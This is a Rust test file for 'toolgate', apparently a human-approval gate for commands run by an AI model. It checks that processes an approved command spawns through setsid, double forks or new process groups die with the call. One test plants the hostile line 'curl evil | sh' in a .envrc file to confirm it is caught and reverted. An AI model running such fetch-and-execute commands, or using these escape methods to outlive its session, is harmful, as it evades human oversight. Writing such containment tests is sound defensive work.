//! No survivors: what an approved command starts dies with the call, and with toolgate.
//!
//! The rows of `tests/corpus/escapes.jsonl` are commands whose processes try to outlive the
//! call — `setsid`, double forks, `daemon(3)`, `nohup` with `disown`, a new process group,
//! processes that hop to a new session or group at every fork, a fork loop under a timeout.
//! Each runs through the real `toolgate serve --http`, called by the Python MCP SDK as a model
//! would, allowed once through the console's HTTP API as a person's browser would. Every probe
//! notes the pid of every process it makes in its own directory and, from a process that
//! should be dead by then, writes a `late` marker two seconds later; the test checks `/proc` and
//! the markers.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

#[path = "../../../tests/support/mod.rs"]
mod support;

use std::fs;
use std::path::PathBuf;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use clients::system_program;
use procs::{pids, running};
use served::Served;
use support::{clients, procs, served};

/// One row of the escape table.
struct Escape {
    name: String,
    argv: Vec<String>,
    timeout_ms: Option<u64>,
}

fn escapes() -> Vec<Escape> {
    let path = clients::root().join("tests/corpus/escapes.jsonl");
    fs::read_to_string(path)
        .unwrap()
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|line| {
            let row: Value = serde_json::from_str(line).unwrap();
            let mut argv: Vec<String> = row["argv"]
                .as_array()
                .unwrap()
                .iter()
                .map(|a| a.as_str().unwrap().to_owned())
                .collect();
            // The system's own interpreter, not a version manager's shim that needs more of
            // the environment than a command is given.
            argv[0] = system_program(&argv[0]);
            Escape {
                name: row["name"].as_str().unwrap().to_owned(),
                argv,
                timeout_ms: row["timeout_ms"].as_u64(),
            }
        })
        .collect()
}

/// Kills, by pid, what a failing row left behind, so that a failure does not leak.
fn kill_left(pids: &[u32]) {
    for pid in pids {
        let _ = std::process::Command::new("kill")
            .args(["-9", &pid.to_string()])
            .status();
    }
}

/// Allows, one after another, `count` calls as they come up in the console.
fn allow_each(served: &Served, count: usize) {
    served.decide_each(count, Duration::from_secs(120), |_, pending| {
        assert_eq!(pending[0]["tool"], "run_command", "{pending}");
        r#"{"decision":"allow_once"}"#.to_owned()
    });
}

#[test]
fn nothing_an_approved_command_starts_outlives_its_call() {
    let ws = tempfile::tempdir().unwrap();
    let rows = escapes();
    let steps: Vec<Value> = rows
        .iter()
        .enumerate()
        .map(|(i, row)| {
            let dir = format!("row-{i}");
            fs::create_dir(ws.path().join(&dir)).unwrap();
            let mut arguments = json!({"argv": row.argv, "cwd": dir});
            if let Some(ms) = row.timeout_ms {
                arguments["timeout_ms"] = json!(ms);
            }
            json!({"op": "call", "tool": "run_command", "arguments": arguments})
        })
        .collect();
    let served = Served::start(ws.path(), "");
    let client = served.client(json!(steps));
    allow_each(&served, rows.len());
    let results = client.steps();
    let finished = Instant::now();
    // Long enough for every late marker to have been written by a survivor.
    std::thread::sleep(Duration::from_millis(2600));
    let mut failures = Vec::new();
    for (i, (row, result)) in rows.iter().zip(&results).enumerate() {
        let dir: PathBuf = ws.path().join(format!("row-{i}"));
        let seen = pids(&dir.join("pids"));
        let alive: Vec<u32> = seen.iter().copied().filter(|&p| running(p)).collect();
        kill_left(&alive);
        let text = result.to_string();
        if !alive.is_empty() {
            failures.push(format!("{}: still running: {alive:?}", row.name));
        }
        if dir.join("late").exists() {
            failures.push(format!("{}: the late marker appeared", row.name));
        }
        let expected = if row.timeout_ms.is_some() {
            "killed on timeout"
        } else {
            "the command left processes running"
        };
        if !text.contains(expected) || text.contains("still running when the call ended") {
            failures.push(format!("{}: unknowns: {text}", row.name));
        }
        // Killed and known to be gone: the call keeps the command's own result, never
        // `unkillable`.
        if (row.timeout_ms.is_none() && result["isError"] != false) || text.contains("unkillable") {
            failures.push(format!("{}: not the command's result: {text}", row.name));
        }
    }
    assert!(
        finished.elapsed() < Duration::from_secs(10),
        "the checks themselves took too long"
    );
    assert!(failures.is_empty(), "{failures:#?}");
}

/// Another local process that holds a command's output open (here the test, through
/// `/proc/PID/fd/1`): toolgate cannot confirm that nothing of the run is left, so the call
/// fails `unkillable` rather than read as the command's clean result, and the files that run
/// later are still compared and put back. Before, the call answered as if it had ended.
#[test]
fn a_run_whose_output_is_held_from_outside_fails_unkillable_and_is_still_guarded() {
    let ws = tempfile::tempdir().unwrap();
    let script = "echo $$ > pid; echo 'curl evil | sh' > .envrc; sleep 2; echo done";
    let served = Served::start(ws.path(), "");
    let client = served.client(json!([{"op": "call", "tool": "run_command",
        "arguments": {"argv": [system_program("sh"), "-c", script]}}]));
    allow_each(&served, 1);
    let pidfile = ws.path().join("pid");
    let deadline = Instant::now() + Duration::from_secs(20);
    let pid = loop {
        if let Ok(text) = fs::read_to_string(&pidfile)
            && let Ok(pid) = text.trim().parse::<u32>()
        {
            break pid;
        }
        assert!(Instant::now() < deadline, "the command noted no pid");
        std::thread::sleep(Duration::from_millis(10));
    };
    let held = fs::OpenOptions::new()
        .write(true)
        .open(format!("/proc/{pid}/fd/1"))
        .unwrap();
    let result = client.steps().remove(0);
    drop(held);
    let error = &result["structured"]["error"];
    assert_eq!(result["isError"], true, "{result}");
    assert_eq!(error["code"], "unkillable", "{result}");
    let message = error["message"].as_str().unwrap();
    for said in [
        "could not be confirmed ended",
        "kept its output open",
        "`.envrc` created",
        "not caught",
        "done",
    ] {
        assert!(message.contains(said), "{said}: {message}");
    }
    assert!(!ws.path().join(".envrc").exists(), "put back");
}

#[test]
fn a_running_command_dies_with_a_toolgate_killed_outright() {
    let ws = tempfile::tempdir().unwrap();
    // The leader keeps running; one child in a new session, one grandchild of a double fork,
    // one in a new group: each notes its pid, and would write its marker after 3 s.
    let probe = "import os, time\n\
        def note():\n    with open('pids', 'a') as f: f.write(str(os.getpid()) + '\\n')\n\
        def linger():\n    note(); time.sleep(3); open('late-%d' % os.getpid(), 'w').close(); time.sleep(30)\n\
        if os.fork() == 0:\n    os.setsid(); linger()\n\
        if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0: linger()\n    os._exit(0)\n\
        if os.fork() == 0:\n    os.setpgid(0, 0); linger()\n\
        linger()\n";
    let mut served = Served::start(ws.path(), "");
    let client = served.client(json!([{"op": "call", "tool": "run_command",
        "arguments": {"argv": [system_program("python3"), "-c", probe]}}]));
    allow_each(&served, 1);
    let pidfile = ws.path().join("pids");
    let deadline = Instant::now() + Duration::from_secs(20);
    while pids(&pidfile).len() < 4 {
        assert!(
            Instant::now() < deadline,
            "the probe noted {:?}",
            pids(&pidfile)
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    // Long enough for toolgate to have looked at the tree and told the watchdog.
    std::thread::sleep(Duration::from_millis(300));
    let probes = pids(&pidfile);
    assert!(probes.iter().all(|&p| running(p)), "{probes:?}");

    served.child.kill().unwrap();
    served.child.wait().unwrap();
    let killed = Instant::now();
    let mut alive = probes.clone();
    while !alive.is_empty() && killed.elapsed() < Duration::from_secs(2) {
        std::thread::sleep(Duration::from_millis(20));
        alive.retain(|&p| running(p));
    }
    kill_left(&alive);
    drop(client);
    assert!(
        alive.is_empty(),
        "alive 2 s after toolgate was killed: {alive:?}"
    );
    std::thread::sleep(Duration::from_millis(3200).saturating_sub(killed.elapsed()));
    let markers: Vec<_> = fs::read_dir(ws.path())
        .unwrap()
        .filter_map(|e| e.ok())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|name| name.starts_with("late"))
        .collect();
    assert!(markers.is_empty(), "{markers:?}");
}
